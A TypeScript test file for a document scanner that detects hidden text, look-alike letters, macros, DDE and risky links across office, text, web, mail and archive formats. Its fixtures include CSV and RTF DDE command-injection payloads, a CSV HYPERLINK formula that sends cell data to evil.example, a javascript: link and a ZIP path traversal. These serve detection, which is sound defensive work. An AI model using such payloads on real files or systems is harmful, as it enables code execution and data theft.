// The same kinds of findings in every format that a delegation meets: each pair of both against a document of our own that holds it.

import { afterEach, describe, expect, it } from 'vitest';

import { found, odf, rtf, run, slide, styledCell } from '../testing/findings-of.ts';
import { makeDocx, makeXlsx, makeZip } from '../testing/office-maker.ts';
import { unsafeCaptureFrames } from './cage/emit.ts';
import type { Kind } from './kind.ts';

afterEach(() => unsafeCaptureFrames(undefined));

type Case = readonly [string, Kind, string, Uint8Array];

const OFFICE: readonly Case[] = [
  [
    'marks that turn the order of letters',
    'docx',
    'bidi-control',
    makeDocx(run('<w:t>5\u202e01\u202c</w:t>')),
  ],
  [
    'letters without width',
    'xlsx',
    'zero-width',
    makeXlsx([], {
      parts: { 'xl/sharedStrings.xml': '<sst><si><t>shall\u200bnot</t></si></sst>' },
    }),
  ],
  [
    'look-alike letters in a cell',
    'xlsx',
    'look-alike-letters',
    makeXlsx([
      {
        name: 'A',
        xml: '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>p\u0430yment</t></is></c></row></sheetData>',
      },
    ]),
  ],
  [
    'look-alike letters on a slide',
    'pptx',
    'look-alike-letters',
    slide('<a:p><a:t>p\u0430yment</a:t></a:p>'),
  ],
  [
    'look-alike letters of OpenDocument',
    'odt',
    'look-alike-letters',
    odf('<text:p>p\u0430yment</text:p>'),
  ],
  [
    'letters without width in a sheet of OpenDocument',
    'ods',
    'zero-width',
    odf('<table:table><text:p>shall\u2060not</text:p></table:table>'),
  ],
  [
    'marks that turn letters on a slide of OpenDocument',
    'odp',
    'bidi-control',
    odf('<draw:page><text:p>5\u202e01</text:p></draw:page>'),
  ],
  [
    'white words',
    'docx',
    'invisible-text',
    makeDocx(run('<w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>our floor</w:t>')),
  ],
  [
    'a number format that shows nothing',
    'xlsx',
    'invisible-text',
    styledCell(
      '<numFmts><numFmt numFmtId="170" formatCode=";;;"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs>',
    ),
  ],
  [
    'cells outside what is printed',
    'xlsx',
    'off-page-text',
    makeXlsx(
      [{ name: 'A', xml: '<sheetData><row r="9"><c r="C9"><v>7</v></c></row></sheetData>' }],
      {
        workbook:
          '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">A!$A$1:$B$20</definedName></definedNames>',
      },
    ),
  ],
  [
    'words kept for later use',
    'docx',
    'hidden-text',
    makeDocx('', {
      'word/glossary/document.xml':
        '<w:glossaryDocument xmlns:w="w"><w:docParts><w:docPart><w:p><w:r><w:t>plan b</w:t></w:r></w:p></w:docPart></w:docParts></w:glossaryDocument>',
    }),
  ],
  [
    'a variable of the document',
    'docx',
    'custom-data',
    makeDocx('', {
      'word/settings.xml':
        '<w:settings xmlns:w="w"><w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars></w:settings>',
    }),
  ],
  [
    'a comment of a slide',
    'pptx',
    'comment',
    makeZip({
      'ppt/commentAuthors.xml':
        '<p:cmAuthorLst xmlns:p="p"><p:cmAuthor id="0" name="Bo"/></p:cmAuthorLst>',
      'ppt/comments/comment1.xml':
        '<p:cmLst xmlns:p="p"><p:cm authorId="0"><p:text>yield</p:text></p:cm></p:cmLst>',
    }),
  ],
  ['a macro', 'xlsx', 'macro', makeXlsx([], { parts: { 'xl/vbaProject.bin': 'x' } })],
  ['a macro of OpenDocument', 'ods', 'macro', odf('', { 'Basic/Standard/Module1.xml': '<x/>' })],
  [
    'an OLE object',
    'xlsx',
    'ole-object',
    makeXlsx([], { parts: { 'xl/embeddings/oleObject1.bin': 'x' } }),
  ],
  ['an OLE object', 'pptx', 'ole-object', makeZip({ 'ppt/embeddings/oleObject1.bin': 'x' })],
  [
    'an object of OpenDocument',
    'odp',
    'ole-object',
    odf('<draw:page><draw:object-ole xlink:href="./Object 1"/></draw:page>'),
  ],
  [
    'a picture from elsewhere of OpenDocument',
    'ods',
    'external-relationship',
    odf('<draw:image xlink:href="http://evil.example/p.png"/>'),
  ],
  [
    'DDE of OpenDocument',
    'ods',
    'dde',
    odf('<office:dde-source xmlns:office="o" office:dde-topic="/c calc"/>'),
  ],
  [
    'a comment of a sheet of OpenDocument',
    'ods',
    'comment',
    odf(
      '<table:table-cell><office:annotation><dc:creator>B</dc:creator><text:p>our floor</text:p></office:annotation></table:table-cell>',
    ),
  ],
  [
    'a comment of a slide of OpenDocument',
    'odp',
    'comment',
    odf(
      '<draw:page><office:annotation><dc:creator>B</dc:creator><text:p>yield</text:p></office:annotation></draw:page>',
    ),
  ],
  [
    'a tracked change of a sheet of OpenDocument',
    'ods',
    'inserted',
    odf(
      '<table:tracked-changes><table:insertion table:type="row"><dc:creator>B</dc:creator></table:insertion></table:tracked-changes>',
    ),
  ],
  [
    'a deletion of OpenDocument',
    'odt',
    'deleted',
    odf(
      '<text:tracked-changes><text:changed-region text:id="c"><text:deletion><dc:creator>B</dc:creator><text:p>out</text:p></text:deletion></text:changed-region></text:tracked-changes>',
    ),
  ],
  [
    'a link of OpenDocument',
    'odt',
    'link',
    odf('<text:a xlink:href="http://link.example">t</text:a>'),
  ],
  [
    'a signature of OpenDocument',
    'odt',
    'signature',
    odf('', { 'META-INF/documentsignatures.xml': '<x/>' }),
  ],
  [
    'who wrote it',
    'odp',
    'metadata',
    odf('', { 'meta.xml': '<m xmlns:dc="d"><dc:creator>Bea</dc:creator></m>' }),
  ],
  [
    'who wrote it',
    'pptx',
    'metadata',
    makeZip({
      'ppt/presentation.xml': '<x/>',
      'docProps/core.xml': '<c xmlns:dc="d"><dc:creator>Bea</dc:creator></c>',
    }),
  ],
  [
    'a field in RTF that fetches',
    'rtf',
    'field-code',
    rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/p"}{\\fldrslt x}}'),
  ],
  [
    'a DDE field in RTF cut into pieces',
    'rtf',
    'dde',
    rtf("{\\field{\\*\\fldinst {\\b D{\\i D}\\'45}{AUTO c:\\\\x.exe}}{\\fldrslt x}}"),
  ],
  [
    'a DDE field in RTF',
    'rtf',
    'dde',
    rtf('{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\x.exe "a"}}{\\fldrslt x}}'),
  ],
  [
    'a link in RTF',
    'rtf',
    'link',
    rtf('{\\field{\\*\\fldinst{HYPERLINK "http://link.example"}}{\\fldrslt x}}'),
  ],
  ['who wrote it in RTF', 'rtf', 'metadata', rtf('{\\info{\\author Bea}}')],
];

const text = (words: string): Uint8Array => new TextEncoder().encode(words);
const mail = (html: string): Uint8Array =>
  text(
    `From: a@a.example\r\nTo: b@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}`,
  );
const hwpx = (inner: string, more: Record<string, string> = {}): Uint8Array =>
  makeZip({
    'Contents/section0.xml': `<hs:sec xmlns:hs="s" xmlns:hp="p"><hp:p><hp:run><hp:t>words</hp:t>${inner}</hp:run></hp:p></hs:sec>`,
    ...more,
  });
/** The first file of an archive, marked as encrypted. */
function lockedZip(): Uint8Array {
  const bytes = makeZip({ 'locked.txt': 'x', 'open.txt': 'y' });
  const at = Buffer.from(bytes).indexOf(Uint8Array.of(0x50, 0x4b, 1, 2));
  bytes[at + 8] = 1;
  return bytes;
}

const TEXTS: readonly Case[] = [
  ['marks that turn letters', 'text', 'bidi-control', text('pay 5\u202e01 now')],
  ['letters without width', 'text', 'zero-width', text('shall\u200bnot')],
  ['look-alike letters', 'text', 'look-alike-letters', text('p\u0430yment')],
  ['a link of Markdown', 'text', 'link', text('see [the draft](http://link.example/a)')],
  [
    'a picture of Markdown from elsewhere',
    'text',
    'external-relationship',
    text('![x](http://track.example/p.gif)'),
  ],
  ['a script link of Markdown', 'text', 'javascript', text('[x](javascript:alert(1))')],
  ['a script in Markdown', 'text', 'active-element', text('# a\n<script src="x"></script>')],
  ['DDE in CSV', 'csv', 'dde', text("a,b,c\n1,=cmd|'/C calc'!A0,2\n")],
  ['DDE in CSV after a plus', 'csv', 'dde', text('a;b;c\n1;"+cmd|\'/C calc\'!A0";2\n')],
  [
    'a formula in CSV that fetches',
    'csv',
    'external-formula',
    text('a,b,c\n1,"=HYPERLINK(""http://evil.example?""&A1)",2\n'),
  ],
  ['a formula in CSV', 'csv', 'formula', text('a,b,c\n1,=A1+2,2\n')],
  ['hidden words', 'html', 'hidden-text', text('<html><p style="display:none">our floor</p>')],
  ['white words', 'html', 'hidden-text', text('<html><p style="color:#FFF">our floor</p>')],
  [
    'white words by a font',
    'html',
    'hidden-text',
    text('<html><font color="white">our floor</font>'),
  ],
  ['words set apart', 'html', 'hidden-text', text('<html><template>plan b</template>')],
  ['a remark in the source', 'html', 'comment', text('<html><!-- our floor is 5 --><p>x')],
  ['a script', 'html', 'script', text('<html><p onclick="x()">x')],
  [
    'a picture from elsewhere',
    'html',
    'external-relationship',
    text('<html><img src="//track.example/p">'),
  ],
  ['a form', 'html', 'form', text('<html><form><input></form>')],
  ['marks that turn letters', 'html', 'bidi-control', text('<html><p>5&#x202e;01')],
  ['letters without width', 'html', 'zero-width', text('<html><p>shall&#8203;not')],
  ['look-alike letters', 'html', 'look-alike-letters', text('<html><p>p\u0430yment')],
  [
    'a picture from elsewhere',
    'eml',
    'external-relationship',
    mail('<img src="http://track.example/p">'),
  ],
  ['a link', 'eml', 'link', mail('<a href="http://link.example">x</a>')],
  ['hidden words', 'eml', 'hidden-text', mail('<div style="font-size:0">plan b</div>x')],
  ['white words', 'eml', 'hidden-text', mail('<p style="color: white">plan b</p>x')],
  ['look-alike letters', 'eml', 'look-alike-letters', mail('p\u0430yment')],
  ['a locked file', 'zip', 'encrypted', lockedZip()],
  ['a path that leads out', 'zip', 'active-element', makeZip({ '../a.txt': 'x' })],
  ['a memo', 'hwpx', 'comment', hwpx('<hp:hiddenComment><hp:t>yield</hp:t></hp:hiddenComment>')],
  [
    'a link',
    'hwpx',
    'link',
    hwpx(
      '<hp:fieldBegin type="HYPERLINK"><hp:stringParam name="Command">http\\://link.example;1;0;0;</hp:stringParam></hp:fieldBegin>',
    ),
  ],
  ['a field', 'hwpx', 'field-code', hwpx('<hp:fieldBegin type="FORMULA"/>')],
  ['a script', 'hwpx', 'script', hwpx('', { 'Scripts/a.js': 'x' })],
  ['an OLE object', 'hwpx', 'ole-object', hwpx('<hp:ole/>')],
  [
    'who wrote it',
    'hwpx',
    'metadata',
    hwpx('', {
      'Contents/content.hpf':
        '<opf:package xmlns:opf="o"><opf:meta name="creator">Kim</opf:meta></opf:package>',
    }),
  ],
  ['look-alike letters', 'hwpx', 'look-alike-letters', hwpx('<hp:t>p\u0430yment</hp:t>')],
  [
    'hidden words',
    'svg',
    'hidden-text',
    text('<svg xmlns="http://www.w3.org/2000/svg"><text display="none">plan b</text></svg>'),
  ],
];

describe('of each format the report names', () => {
  it.each([...OFFICE, ...TEXTS])('%s (%s)', async (_, kind, word, bytes) => {
    const { kinds } = await found(kind, bytes);
    expect([...kinds]).toContain(word);
  });

  it('who changed an HWPX, and what', async () => {
    const { findings } = await found(
      'hwpx',
      hwpx('<hp:insertBegin Id="1" TcId="7"/><hp:t>shall</hp:t><hp:insertEnd Id="1"/>', {
        'Contents/header.xml':
          '<hh:head xmlns:hh="h"><hh:trackChange id="7" authorID="2"/><hh:trackChangeAuthor id="2" name="Kim"/></hh:head>',
      }),
    );
    expect(findings.remarks).toEqual([
      { what: 'inserted', author: 'Kim', text: 'shall', page: null },
    ]);
  });

  it('where a text hides letters', async () => {
    const { findings } = await found('text', text('one\nshall\u200bnot\u200b\nthree\n'));
    expect(findings.hiddenList()).toEqual([
      { kind: 'zero-width', count: 2, pages: [], texts: ['shallnot'] },
    ]);
  });

  it('nothing of honest ones', async () => {
    const honest: readonly (readonly [Kind, Uint8Array])[] = [
      ['text', text('a | b = c\n- item\n=====\n')],
      ['csv', text('a,b,c\n-1,+2.5,"- none"\n@home,a=b,3\n')],
      [
        'html',
        text(
          '<html><div style="background:#000"><p style="color:#fff">x</div><!--[if mso]>x<![endif]-->',
        ),
      ],
      [
        'docx',
        makeDocx(
          run('<w:rPr><w:color w:val="FFFFFF"/><w:highlight w:val="black"/></w:rPr><w:t>x</w:t>'),
        ),
      ],
      ['docx', makeDocx(run('<w:t>di\u00advide \u{1f468}\u200d\u{1f469}</w:t>'))],
      [
        'xlsx',
        makeXlsx(
          [{ name: 'A', xml: '<sheetData><row r="2"><c r="B2"><v>7</v></c></row></sheetData>' }],
          {
            workbook:
              '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">A!$A:$C,A!$E$1</definedName></definedNames>',
          },
        ),
      ],
      ['hwpx', hwpx('')],
      ['zip', makeZip({ 'a.txt': 'x' })],
    ];
    for (const [kind, bytes] of honest)
      expect([kind, ...(await found(kind, bytes)).kinds]).toEqual([kind]);
  });
});
